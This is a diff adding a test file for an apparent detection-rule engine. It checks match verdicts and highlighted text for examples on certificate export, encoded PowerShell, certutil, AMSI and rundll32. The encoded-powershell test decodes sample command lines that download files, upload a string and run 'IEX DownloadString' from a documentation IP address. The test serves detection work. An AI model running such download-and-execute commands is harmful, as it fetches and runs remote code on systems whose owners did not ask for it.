@@ -1,0 +1,231 @@
+import { describe, expect, test } from 'vitest';
+import { compile } from '../../src/compile/compile';
+import type { EventSlice } from '../../src/event/event';
+import { readEvents } from '../../src/event/read';
+import { Evaluator } from '../../src/match/evaluate';
+import { explainWith } from '../../src/match/explain';
+import { marksOf } from '../../src/match/marks';
+import { EXAMPLES, type Example } from './index';
+
+const VERDICTS: Record<string, { format: string; verdicts: string[] }> = {
+  'certificate-export': {
+    format: 'JSON objects',
+    verdicts: ['match', 'no match', 'match', 'no match', 'not applicable', 'no match'],
+  },
+  'scheduled-task-filters': {
+    format: 'NDJSON',
+    verdicts: ['match', 'no match', 'match', 'no match', 'error', 'match', 'no match'],
+  },
+  'archive-patterns': {
+    format: 'JSON array',
+    verdicts: ['match', 'match', 'no match', 'match', 'no match', 'no match', 'no match'],
+  },
+  'icacls-wildcards': {
+    format: 'NDJSON',
+    verdicts: ['match', 'match', 'no match', 'no match', 'no match', 'match'],
+  },
+  'odd-case': {
+    format: 'JSON objects',
+    verdicts: ['match', 'no match', 'match', 'no match', 'no match', 'no match'],
+  },
+  'certutil-windash': {
+    format: 'JSON array',
+    verdicts: ['match', 'match', 'match', 'match', 'no match', 'no match', 'no match'],
+  },
+  'encoded-powershell': {
+    format: 'JSON objects',
+    verdicts: ['match', 'match', 'match', 'no match', 'no match', 'no match', 'no match'],
+  },
+  'download-regex': {
+    format: 'JSON objects',
+    verdicts: ['match', 'match', 'no match', 'no match', 'match', 'no match', 'no match'],
+  },
+  'amsi-keywords': {
+    format: 'JSON objects',
+    verdicts: ['match', 'match', 'no match', 'match', 'no match', 'not applicable'],
+  },
+  'outbound-cidr': {
+    format: 'JSON array',
+    verdicts: [
+      'match',
+      'no match',
+      'match',
+      'match',
+      'no match',
+      'no match',
+      'not applicable',
+      'not applicable',
+    ],
+  },
+  'self-start-fieldref': {
+    format: 'NDJSON',
+    verdicts: ['match', 'match', 'no match', 'no match', 'no match', 'no match'],
+  },
+  'remote-tool-at-night': {
+    format: 'NDJSON',
+    verdicts: ['match', 'match', 'no match', 'no match', 'no match', 'no match'],
+  },
+  'bare-rundll32': {
+    format: 'JSON array',
+    verdicts: ['match', 'match', 'no match', 'no match', 'no match', 'no match'],
+  },
+};
+
+describe.each(EXAMPLES.map((example) => [example.id, example] as const))('%s', (id, example) => {
+  const expected = VERDICTS[id];
+
+  test('compiles without an error', () => {
+    expect(compile(example.rule).diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+  });
+
+  test('gives each event its verdict', () => {
+    const { evaluator, slices } = open(example);
+    expect(slices.map((slice) => (slice.event ? evaluator.verdict(slice.event) : 'error'))).toEqual(
+      expected?.verdicts,
+    );
+  });
+
+  test('shows a match and a miss, in the shape that it is meant to show', () => {
+    expect(expected?.verdicts).toEqual(expect.arrayContaining(['match', 'no match']));
+    expect(readEvents(example.events).format).toBe(expected?.format);
+  });
+
+  test('has a menu line of at most 80 characters and a whole header', () => {
+    expect(example.teaches.length).toBeLessThanOrEqual(80);
+    const keys = [...example.rule.matchAll(/^([a-z]+):/gm)].map((m) => m[1]);
+    expect(keys).toEqual([
+      'title',
+      'id',
+      'status',
+      'description',
+      'references',
+      'author',
+      'date',
+      'tags',
+      'logsource',
+      'detection',
+      'falsepositives',
+      'level',
+    ]);
+  });
+});
+
+test('names, titles and rule ids are unique, and every example is in the table', () => {
+  for (const of of [
+    (e: Example) => e.id,
+    (e: Example) => e.title,
+    (e: Example) =>
+      /^id: ([0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12})$/m.exec(e.rule)?.[1],
+  ]) {
+    const names = EXAMPLES.map(of);
+    expect(names).not.toContain(undefined);
+    expect(new Set(names).size).toBe(EXAMPLES.length);
+  }
+  expect(EXAMPLES.map((e) => e.id)).toEqual(Object.keys(VERDICTS));
+});
+
+test('certificate-export: the characters that are marked, on both sides', () => {
+  expect(marked('certificate-export')).toEqual([
+    { event: 1, whole: true, rule: 'Export-PfxCertificate ', text: 'Export-PfxCertificate ', at: 176 },
+    { event: 3, whole: true, rule: 'Export-Certificate ', text: 'export-certificate ', at: 645 },
+    { event: 4, whole: true, rule: 'Export-PfxCertificate ', text: 'Export-PfxCertificate ', at: 935 },
+    { event: 4, whole: true, rule: '\\CcmExec.exe', text: '\\\\CcmExec.exe', at: 1024 },
+  ]);
+});
+
+test('encoded-powershell: the three alignments, each in an event of its own', () => {
+  const encoded = marked('encoded-powershell').filter((m) => m.rule.includes('Net.WebClient'));
+  expect(encoded.map((m) => [m.event, m.text])).toEqual([
+    [1, 'TgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdA'],
+    [2, '4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA'],
+    [3, 'OAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A'],
+  ]);
+  const { slices } = open(byId('encoded-powershell'));
+  const commands = slices.map((s) =>
+    Buffer.from(String(s.event?.get('CommandLine')).split(' ').at(-1) ?? '', 'base64').toString('utf16le'),
+  );
+  expect(commands.slice(0, 4)).toEqual([
+    "$wc=New-Object Net.WebClient; $wc.DownloadFile('http://192.0.2.44/a.zip','a.zip')",
+    "& { (New-Object System.Net.WebClient).UploadString('http://192.0.2.44/', 'hi') }",
+    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/p.ps1')",
+    "IEX (new-object net.webclient).downloadstring('http://192.0.2.44/p.ps1')",
+  ]);
+});
+
+test('download-regex: what each group caught', () => {
+  const groups = marked('download-regex').filter((m) => m.kind === 'group');
+  expect(groups.map((m) => [m.event, m.text])).toEqual([
+    [1, '192.0.2.44'],
+    [1, '8080'],
+    [1, 'tool.exe'],
+    [2, '198.51.100.9'],
+    [2, 'a.dll'],
+    [5, '192.0.2.44'],
+    [5, 'one.ps1'],
+    [5, '192.0.2.44'],
+    [5, 'two.ps1'],
+  ]);
+});
+
+test('icacls-wildcards: what each wildcard stood for', () => {
+  const wildcards = marked('icacls-wildcards').filter((m) => m.kind === 'wildcard');
+  expect(wildcards.map((m) => [m.event, m.rule, m.text])).toEqual([
+    [1, '?', 'C'],
+    [1, '*', 'Data'],
+    [2, '?', 'D'],
+    [2, '*', 'Shares\\\\Public /T'],
+    [6, '?', 'E'],
+  ]);
+});
+
+test('certutil-windash: which dash each event has', () => {
+  const dashes = marked('certutil-windash').filter((m) => m.kind === 'dash');
+  expect(dashes.map((m) => [m.event, m.text])).toEqual([
+    [1, '-'],
+    [2, '/'],
+    [2, '/'],
+    [3, '\u2013'],
+    [3, '/'],
+    [4, '\u2015'],
+    [5, '/'],
+  ]);
+});
+
+interface Shown {
+  readonly event: number;
+  readonly whole: boolean;
+  readonly rule: string;
+  readonly text: string;
+  readonly at: number;
+  readonly kind?: string;
+}
+
+/** The marks of an example as a person sees them: events counted from 1, characters instead of ranges. */
+function marked(id: string): Shown[] {
+  const example = byId(id);
+  const { evaluator, slices } = open(example);
+  return slices.flatMap(({ event }) =>
+    event
+      ? marksOf(explainWith(evaluator, event)).map((mark) => ({
+          event: mark.event + 1,
+          whole: mark.whole,
+          rule: example.rule.slice(mark.rule.start, mark.rule.end),
+          text: example.events.slice(mark.text.start, mark.text.end),
+          at: mark.text.start,
+          ...(mark.kind === 'match' ? {} : { kind: mark.kind }),
+        }))
+      : [],
+  );
+}
+
+function open(example: Example): { evaluator: Evaluator; slices: readonly EventSlice[] } {
+  const { plan } = compile(example.rule);
+  if (!plan) throw new Error(`${example.id} does not compile`);
+  return { evaluator: new Evaluator(plan), slices: readEvents(example.events).slices };
+}
+
+function byId(id: string): Example {
+  const example = EXAMPLES.find((e) => e.id === id);
+  if (!example) throw new Error(`no example ${id}`);
+  return example;
+}
